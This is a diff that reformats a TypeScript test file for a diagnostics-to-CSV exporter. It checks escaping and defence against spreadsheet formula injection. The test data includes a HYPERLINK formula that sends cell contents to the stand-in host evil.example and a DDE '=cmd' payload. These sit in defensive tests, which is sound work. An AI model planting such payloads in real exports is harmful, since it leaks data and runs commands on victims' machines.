@@ -11,7 +11,12 @@ const records = (csv: string): Record<string, string>[] => parse(csv, { columns:
 const hitsExample = responseExamples().find((e) => e.schema === 'DiagnosticOutput' && e.name === 'hits')!;
 
 const withDiagnostics = (diagnostic: Diagnostic[]): DiagnosticOutput => ({
-  diagnostics: { filter: 'all', hit_count: diagnostic.filter((d) => d.run_data.match).length, miss_count: diagnostic.filter((d) => !d.run_data.match).length, diagnostic },
+  diagnostics: {
+    filter: 'all',
+    hit_count: diagnostic.filter((d) => d.run_data.match).length,
+    miss_count: diagnostic.filter((d) => !d.run_data.match).length,
+    diagnostic,
+  },
   system_information: { hostname: 'h', chassis_serial: 's', platform: 'p' },
   version: '2026.11.1',
 });
@@ -45,7 +50,11 @@ t.test('one row per listed diagnostic, lists joined with spaces, match as true o
       h_cve_ids: d.results.h_cve_ids.join(' '),
     });
   }
-  t.same(strict(diagnosticsCsv(realisticOutput('hit'))).length, 1 + realisticOutput('all').diagnostics.hit_count, 'set=hit: the header and the hits');
+  t.same(
+    strict(diagnosticsCsv(realisticOutput('hit'))).length,
+    1 + realisticOutput('all').diagnostics.hit_count,
+    'set=hit: the header and the hits',
+  );
 });
 
 t.test('no diagnostics: the header row alone', async (t) => {
@@ -67,23 +76,53 @@ t.test('quotes, commas, line breaks and non-ASCII text round-trip through a CSV 
   ];
   const rows = tricky.map((value, i) => diagnostic({ name: `rule-${i}`, h_header: value, h_summary: value, h_action: value }));
   const parsed = records(diagnosticsCsv(withDiagnostics(rows)));
-  t.same(parsed.map((r) => r.h_header), tricky);
-  t.same(parsed.map((r) => r.h_summary), tricky);
-  t.same(parsed.map((r) => r.name), tricky.map((_, i) => `rule-${i}`));
+  t.same(
+    parsed.map((r) => r.h_header),
+    tricky,
+  );
+  t.same(
+    parsed.map((r) => r.h_summary),
+    tricky,
+  );
+  t.same(
+    parsed.map((r) => r.name),
+    tricky.map((_, i) => `rule-${i}`),
+  );
 });
 
 t.test('a cell that a spreadsheet would run as a formula starts with a quote (OWASP CSV injection)', async (t) => {
-  const formulas = ['=1+2', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=cmd', '\r=cmd', '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0"];
+  const formulas = [
+    '=1+2',
+    '+1+2',
+    '-2+3',
+    '@SUM(A1:A2)',
+    '\t=cmd',
+    '\r=cmd',
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+  ];
   const rows = formulas.map((value) =>
-    diagnostic({ name: value, h_header: value, h_summary: value, h_action: value, h_sols: [value, 'https://ok.example/kb'], h_cve_ids: [value] }),
+    diagnostic({
+      name: value,
+      h_header: value,
+      h_summary: value,
+      h_action: value,
+      h_sols: [value, 'https://ok.example/kb'],
+      h_cve_ids: [value],
+    }),
   );
   const parsed = records(diagnosticsCsv(withDiagnostics(rows)));
   for (const [i, value] of formulas.entries()) {
-    for (const column of ['name', 'h_header', 'h_summary', 'h_action'] as const) t.equal(parsed[i]![column], `'${value}`, `${column}: ${JSON.stringify(value)}`);
+    for (const column of ['name', 'h_header', 'h_summary', 'h_action'] as const)
+      t.equal(parsed[i]![column], `'${value}`, `${column}: ${JSON.stringify(value)}`);
     t.equal(parsed[i]!.h_sols, `'${value} https://ok.example/kb`, 'a joined list starting with a formula');
     t.equal(parsed[i]!.h_cve_ids, `'${value}`);
   }
   const harmless = ['a=b', 'x+1', 'e-mail', 'user@example.com', ' =not at the start', '42', "'already quoted"];
   const safe = records(diagnosticsCsv(withDiagnostics(harmless.map((value) => diagnostic({ h_header: value })))));
-  t.same(safe.map((r) => r.h_header), harmless, 'other cells are left as they are');
+  t.same(
+    safe.map((r) => r.h_header),
+    harmless,
+    'other cells are left as they are',
+  );
 });
